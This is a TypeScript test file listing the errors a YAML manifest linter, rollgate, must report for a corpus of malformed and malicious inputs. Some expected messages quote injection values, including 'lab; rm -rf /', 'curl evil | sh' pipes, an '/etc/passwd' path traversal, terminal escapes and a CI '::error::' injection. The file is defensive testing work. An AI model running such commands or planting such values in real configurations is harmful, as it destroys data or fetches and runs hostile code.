// What each file of test/corpus/bad/ must get from `rollgate check`: a finding of a rule on a line (exit 1), or one
// sentence on stderr (exit 2). manifests/ are judged as the head with the built-in packs; packs/ are named by a
// small valid head; bases/ are the base of examples/microcloud/head-pass.yaml.
import type { RuleId } from '../../src/findings.js';

/** What a corpus file must get. */
export type Expectation =
  | { exit: 0 | 1; rule: RuleId; line: number; message: RegExp; severity?: 'error' | 'warning' }
  | { exit: 2; stderr: RegExp };

const syntax = (line: number, message: RegExp): Expectation => ({
  exit: 1,
  rule: 'yaml/syntax',
  line,
  message,
});
const schema = (line: number, message: RegExp): Expectation => ({ exit: 1, rule: 'schema', line, message });
const brokenPack = (file: string, line: number, message: RegExp): Expectation => ({
  exit: 2,
  stderr: new RegExp(
    `^rollgate check: The policy pack test/corpus/bad/packs/${file}\\.yaml is broken at line ${line}, column \\d+: ${message.source}\\n$`,
  ),
});
const NOT_A_LABEL =
  /which is not allowed: A DNS label: lower-case letters, digits and inner hyphens, at most 63 characters\.$/;
const NOT_A_HOST =
  /which is not allowed: A member's host name: letters, digits, dots, hyphens and underscores, starting with a letter or digit\.$/;

/** Every file under test/corpus/bad/, by its path there, with what it must get. */
export const EXPECTATIONS: Record<string, Expectation> = {
  // YAML that does not parse, or parses into something dangerous.
  'manifests/syntax-unclosed-flow.yaml': syntax(
    8,
    /^The YAML does not parse: Flow sequence in block collection must be sufficiently indented and end with a \]\.$/,
  ),
  'manifests/syntax-bad-indent.yaml': syntax(7, /^The YAML does not parse: /),
  'manifests/syntax-tab-indent.yaml': syntax(
    7,
    /^The YAML does not parse: Tabs are not allowed as indentation\.$/,
  ),
  'manifests/syntax-unterminated-quote.yaml': syntax(
    13,
    /^The YAML does not parse: Missing closing "quote\.$/,
  ),
  'manifests/syntax-nested-compact.yaml': syntax(
    4,
    /^The YAML does not parse: Nested mappings are not allowed in compact mappings\.$/,
  ),
  'manifests/syntax-multiple-documents.yaml': syntax(
    13,
    /^The YAML does not parse: Source contains multiple documents; a manifest is one document\.$/,
  ),
  'manifests/syntax-yaml-1-1.yaml': syntax(
    1,
    /^The file asks for YAML 1\.1 with a %YAML directive; rollgate reads YAML 1\.2 only/,
  ),
  'manifests/alias-bomb.yaml': syntax(
    1,
    /^The YAML's aliases expand past 10000 nodes, which is how an alias bomb \("billion laughs"\) looks; write the values out\.$/,
  ),
  'manifests/alias-undefined.yaml': syntax(
    7,
    /^The alias \*nodes comes before any anchor &nodes; set the anchor first, or write the value out\.$/,
  ),
  'manifests/deep-flow-nesting.yaml': syntax(
    3,
    /^The YAML nests deeper than 64 levels; a manifest needs far fewer\.$/,
  ),
  'manifests/deep-block-nesting.yaml': syntax(
    66,
    /^The YAML nests deeper than 64 levels; a manifest needs far fewer\.$/,
  ),
  'manifests/duplicate-key-top.yaml': syntax(
    4,
    /^A key appears twice in one mapping \(Map keys must be unique\); YAML readers disagree on which wins, so remove one\.$/,
  ),
  'manifests/duplicate-key-flow.yaml': syntax(10, /^A key appears twice in one mapping/),
  'manifests/binary-png.yaml': syntax(
    3,
    /^The file holds binary data \(a NUL byte\); a manifest is YAML text\.$/,
  ),
  'manifests/utf16.yaml': syntax(1, /^The file is UTF-16 text; rollgate reads UTF-8\. Save it as UTF-8\.$/),
  'manifests/binary-no-nul.yaml': syntax(1, /^The file is not UTF-8 text: it holds bytes UTF-8 cannot read/),
  'manifests/latin1.yaml': syntax(1, /^The file is not UTF-8 text: .*Save it as UTF-8\.$/),
  'manifests/empty.yaml': schema(
    1,
    /^The manifest is empty; it must be a mapping that starts with apiVersion: rollgate\/v1\.$/,
  ),
  'manifests/only-comments.yaml': schema(
    1,
    /^The manifest is empty; it must be a mapping that starts with apiVersion: rollgate\/v1\.$/,
  ),
  'manifests/bare-scalar.yaml': schema(1, /^The file must be an object, not the string hello\.$/),
  'manifests/list-not-mapping.yaml': schema(1, /^The file must be an object, not a list\.$/),
  // Keys that mean something to JavaScript.
  'manifests/proto-top-level.yaml': schema(5, /^The manifest has an unknown field `__proto__`/),
  'manifests/proto-component.yaml': schema(
    12,
    /^`components` at clusters\.0\.components has a name that is not allowed: __proto__\.$/,
  ),
  'manifests/proto-in-state.yaml': schema(
    9,
    /^`microceph` at clusters\.0\.components\.microceph has an unknown field `__proto__`/,
  ),
  'manifests/constructor-component.yaml': schema(
    9,
    /^constructor is not a component of the microcloud pack, which knows microceph, microovn, lxd, microcloud\.$/,
  ),
  'manifests/constructor-member-override.yaml': schema(
    9,
    /^Component `constructor` needs a `version`, or a `channel` with a `revision`, so rollgate knows what to pin\.$/,
  ),
  'manifests/constructor-top-level.yaml': schema(5, /^The manifest has an unknown field `constructor`/),
  'manifests/prototype-member.yaml': schema(7, NOT_A_HOST),
  // Numbers where strings belong, and other wrong types.
  'manifests/version-bare-number.yaml': schema(
    12,
    /^`version` at clusters\.0\.components\.microcloud\.version is the YAML number 2\.10; write it as a string, "2\.10", since YAML reads 1\.10 as 1\.1\.$/,
  ),
  'manifests/name-number.yaml': schema(
    6,
    /^`name` at clusters\.0\.name is the YAML number 1234; write it as a string, "1234"/,
  ),
  'manifests/revision-string.yaml': schema(
    9,
    /^`revision` at clusters\.0\.components\.microceph\.revision must be an integer, not the string 4067\.$/,
  ),
  'manifests/revision-negative.yaml': schema(
    9,
    /^`revision` at clusters\.0\.components\.microceph\.revision must be at least 1\.$/,
  ),
  'manifests/revision-zero.yaml': schema(9, /must be at least 1\.$/),
  'manifests/revision-fraction.yaml': schema(9, /must be an integer, not the number 4067\.5\.$/),
  'manifests/revision-too-large.yaml': schema(9, /must be at most 4294967295\.$/),
  'manifests/revision-infinity.yaml': schema(9, /must be an integer, not the number Infinity\.$/),
  'manifests/revision-nan.yaml': schema(9, /must be an integer, not the number NaN\.$/),
  'manifests/revision-binary.yaml': schema(9, /must be an integer, not binary data \(a !!binary value\)\.$/),
  'manifests/hold-yes.yaml': schema(
    9,
    /^`hold` at clusters\.0\.components\.microceph\.hold must be a boolean, not the string yes\.$/,
  ),
  'manifests/hold-string.yaml': schema(
    10,
    /^`hold` at clusters\.0\.components\.microovn\.hold must be a boolean, not the string true\.$/,
  ),
  'manifests/clusters-mapping.yaml': schema(6, /^`clusters` at clusters must be an array, not a mapping\.$/),
  'manifests/clusters-null-item.yaml': schema(
    6,
    /^`clusters` at clusters\.0 must be an object, not empty\.$/,
  ),
  'manifests/members-empty.yaml': schema(
    7,
    /^`members` at clusters\.0\.members must have at least 1 item\.$/,
  ),
  'manifests/members-set-tag.yaml': schema(
    7,
    /^`members` at clusters\.0\.members must be an array, not a mapping\.$/,
  ),
  'manifests/component-key-list.yaml': schema(
    9,
    /^`components` at clusters\.0\.components has a name that is not allowed: \[ a, b \]\.$/,
  ),
  'manifests/component-key-null.yaml': schema(
    9,
    /has an entry with an empty name \(a YAML null or empty key\); give it a name\.$/,
  ),
  'manifests/component-incomplete.yaml': schema(
    11,
    /^Component `lxd` needs a `version`, or a `channel` with a `revision`, so rollgate knows what to pin\.$/,
  ),
  'manifests/unknown-field.yaml': schema(
    8,
    /^`clusters` at clusters\.0 has an unknown field `componets`; check its spelling/,
  ),
  'manifests/api-version-wrong.yaml': schema(2, /^`apiVersion` at apiVersion must be "rollgate\/v1"\.$/),
  'manifests/kind-wrong.yaml': schema(3, /^`kind` at kind must be "Fleet"\.$/),
  // Names that carry shell, markdown, HTML, mentions, look-alikes or control characters.
  'manifests/name-shell-semicolon.yaml': schema(
    6,
    /^`name` at clusters\.0\.name is "lab; rm -rf \/", which is not allowed/,
  ),
  'manifests/member-command-substitution.yaml': schema(7, NOT_A_HOST),
  'manifests/member-backticks.yaml': schema(7, NOT_A_HOST),
  'manifests/component-pipe.yaml': schema(
    12,
    /^`components` at clusters\.0\.components has a name that is not allowed: lxd\|curl evil\|sh\.$/,
  ),
  'manifests/proxy-newline.yaml': schema(
    7,
    /^`proxy` at clusters\.0\.proxy is "store\\n::error::pwned", which is not allowed/,
  ),
  'manifests/runner-label-shell.yaml': schema(
    7,
    /is "self-hosted && curl x", which is not allowed: A runner label: letters, digits, dots, hyphens and underscores/,
  ),
  'manifests/name-markdown.yaml': schema(6, NOT_A_LABEL),
  'manifests/member-html.yaml': schema(7, NOT_A_HOST),
  'manifests/name-mention.yaml': schema(6, NOT_A_LABEL),
  'manifests/name-homoglyph.yaml': schema(6, NOT_A_LABEL),
  'manifests/name-zero-width.yaml': schema(7, NOT_A_HOST),
  'manifests/name-too-long.yaml': schema(6, /is "a{57}\.\.\.", which is not allowed/),
  'manifests/terminal-escapes.yaml': schema(
    9,
    /must be an integer, not the string \\u001b\]0;pwned\\u0007\\u001b\[2J\.$/,
  ),
  'manifests/pack-name-shell.yaml': schema(
    4,
    /^`policy` at policy is "microcloud; id", which is not allowed/,
  ),
  // Dates, waves and names that the schema alone cannot check.
  'manifests/freeze-bad-date.yaml': schema(
    6,
    /^`from` at freeze\.0\.from must be a date \(YYYY-MM-DD\) or an RFC 3339 date-time\.$/,
  ),
  'manifests/freeze-date-words.yaml': schema(6, /^`from` at freeze\.0\.from must be a date/),
  'manifests/freeze-reversed.yaml': schema(
    6,
    /^The freeze from 2026-03-02 to 2026-02-01 ends before it starts\.$/,
  ),
  'manifests/wave-not-in-waves.yaml': schema(
    8,
    /^Cluster `lab` names wave `prod`, which is not one of `waves` \(staging, production\)\.$/,
  ),
  'manifests/wave-without-waves.yaml': schema(
    7,
    /^Cluster `lab` names wave `staging`, but the manifest sets no `waves`/,
  ),
  'manifests/waves-duplicate.yaml': schema(
    5,
    /^`waves` at waves lists the same value twice \(items 0 and 1\)\.$/,
  ),
  'manifests/duplicate-cluster.yaml': schema(
    13,
    /^Cluster name `lab` is used twice; cluster names must be unique\.$/,
  ),
  'manifests/duplicate-member.yaml': schema(7, /^Member `lab-1` appears twice in cluster `lab`\.$/),
  // What the pack does not know or allow.
  'manifests/unknown-component.yaml': schema(12, /^kubelet is not a component of the microcloud pack/),
  'manifests/unknown-track.yaml': schema(
    9,
    /^microceph track tentacle is not one the microcloud pack can read \(tracks\)\. It knows quincy, reef, squid\.$/,
  ),
  'manifests/channel-no-risk.yaml': schema(
    9,
    /is "squid", which is not allowed: A snap-style channel: track\/risk\[\/branch\]\.$/,
  ),
  'manifests/channel-bad-risk.yaml': schema(9, /is "squid\/unstable", which is not allowed/),
  'manifests/channel-candidate.yaml': {
    exit: 1,
    rule: 'channel/risk',
    line: 11,
    message: /^lxd tracks 5\.21\/candidate, risk candidate; microcloud allows stable only/,
  },
  'manifests/json-syntax.yaml': {
    exit: 1,
    rule: 'channel/risk',
    line: 1,
    message: /^lxd tracks 5\.21\/edge, risk edge/,
  },
  'manifests/unknown-pack.yaml': schema(
    4,
    /^The manifest's policy `nosuchpack` names no pack in the policies directory or among rollgate's built-in packs\. The packs there are: .*microcloud/,
  ),
  'manifests/pack-path-traversal.yaml': schema(
    4,
    /^The manifest's policy `\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd\.yaml` names no pack/,
  ),
  // Broken packs: the tool cannot judge with them, so exit 2 and one sentence.
  'packs/requires-cycle.yaml': brokenPack(
    'requires-cycle',
    35,
    /The components' `requires` form a cycle \(microceph -> microcloud -> microceph\); no upgrade order can satisfy it\./,
  ),
  'packs/requires-unknown.yaml': brokenPack(
    'requires-unknown',
    92,
    /`microcloud` requires `ceph`, which is not one of the pack's components\./,
  ),
  'packs/requires-later-in-order.yaml': brokenPack(
    'requires-later-in-order',
    91,
    /`microcloud` requires `lxd`, so `lxd` must come before it in `order`\./,
  ),
  'packs/step-needs-unknown.yaml': brokenPack(
    'step-needs-unknown',
    23,
    /Step `microcloud-status` needs `ceph`, which is not one of the pack's components\./,
  ),
  'packs/step-needs-bad-version.yaml': brokenPack(
    'step-needs-bad-version',
    23,
    /`3` is not a version the tracks scheme of `microcloud` knows\./,
  ),
  'packs/jump-limit-unknown-version.yaml': brokenPack(
    'jump-limit-unknown-version',
    31,
    /`tentacle` is not a version the tracks scheme of `microceph` knows\./,
  ),
  'packs/order-unknown.yaml': brokenPack(
    'order-unknown',
    13,
    /`order` names `kubelet`, which is not one of the pack's components\./,
  ),
  'packs/order-missing.yaml': brokenPack(
    'order-missing',
    13,
    /Component `microcloud` is missing from `order`; every component has a place in the upgrade order\./,
  ),
  'packs/placeholder-unknown.yaml': brokenPack(
    'placeholder-unknown',
    40,
    /Step `health` uses the placeholder \{secret\}; the known ones are .*/,
  ),
  'packs/severity-unknown.yaml': brokenPack(
    'severity-unknown',
    16,
    /`policy\/changed` at rules\.policy\/changed must be one of "error", "warning", "off"\./,
  ),
  'packs/rule-unknown.yaml': brokenPack(
    'rule-unknown',
    16,
    /`rules` at rules has an unknown field `nope\/rule`; .*/,
  ),
  'packs/syntax-error.yaml': brokenPack('syntax-error', 14, /The YAML does not parse: .*/),
  'packs/tracks-without-versions.yaml': brokenPack(
    'tracks-without-versions',
    27,
    /Component `microceph` uses the tracks scheme, which needs `versions`: its tracks in release order\./,
  ),
  'packs/eol-unknown-version.yaml': brokenPack(
    'eol-unknown-version',
    89,
    /`banana` is not a version the tracks scheme of `microcloud` knows\./,
  ),
  'packs/eol-bad-date.yaml': brokenPack(
    'eol-bad-date',
    89,
    /`date` at components\.microcloud\.eol\.0\.date must be a date \(YYYY-MM-DD\) or an RFC 3339 date-time\./,
  ),
  'packs/scheme-unknown.yaml': brokenPack(
    'scheme-unknown',
    27,
    /`scheme` at components\.microceph\.versioning\.scheme must be one of "semver", "tracks", "calver"\./,
  ),
  'packs/jump-negative.yaml': brokenPack(
    'jump-negative',
    30,
    /`max` at components\.microceph\.jump\.max must be at least 0\./,
  ),
  'packs/proto-component.yaml': brokenPack(
    'proto-component',
    24,
    /`components` at components has a name that is not allowed: __proto__\./,
  ),
  'packs/duplicate-key.yaml': brokenPack('duplicate-key', 8, /A key appears twice in one mapping .*/),
  'packs/alias-bomb.yaml': brokenPack('alias-bomb', 1, /The YAML's aliases expand past 10000 nodes, .*/),
  'packs/empty.yaml': brokenPack(
    'empty',
    1,
    /The policy pack is empty; it must be a mapping that starts with apiVersion: rollgate\/v1\./,
  ),
  'packs/kind-fleet.yaml': brokenPack('kind-fleet', 6, /`kind` at kind must be "PolicyPack"\./),
  'packs/step-run-string.yaml': brokenPack(
    'step-run-string',
    40,
    /`run` at components\.microceph\.rollout\.member\.3\.run must be an array, not the string microceph status; curl evil \| sh\./,
  ),
  'packs/binary.yaml': brokenPack('binary', 3, /The file holds binary data \(a NUL byte\); .*/),
  // A base that cannot be read: the head is judged, the comparing rules skipped, and a warning says so.
  'bases/syntax-error.yaml': {
    exit: 0,
    rule: 'schema',
    severity: 'warning',
    line: 1,
    message:
      /^The base manifest test\/corpus\/bad\/bases\/syntax-error\.yaml could not be read \(line 4: The YAML does not parse: .*\); the rules that compare base and head were skipped\.$/,
  },
  'bases/alias-bomb.yaml': {
    exit: 0,
    rule: 'schema',
    severity: 'warning',
    line: 1,
    message: /could not be read \(line 1: The YAML's aliases expand past 10000 nodes/,
  },
  'bases/schema-error.yaml': {
    exit: 0,
    rule: 'schema',
    severity: 'warning',
    line: 1,
    message: /could not be read \(line 5: `clusters` at clusters must be an array, not a mapping\.\)/,
  },
};
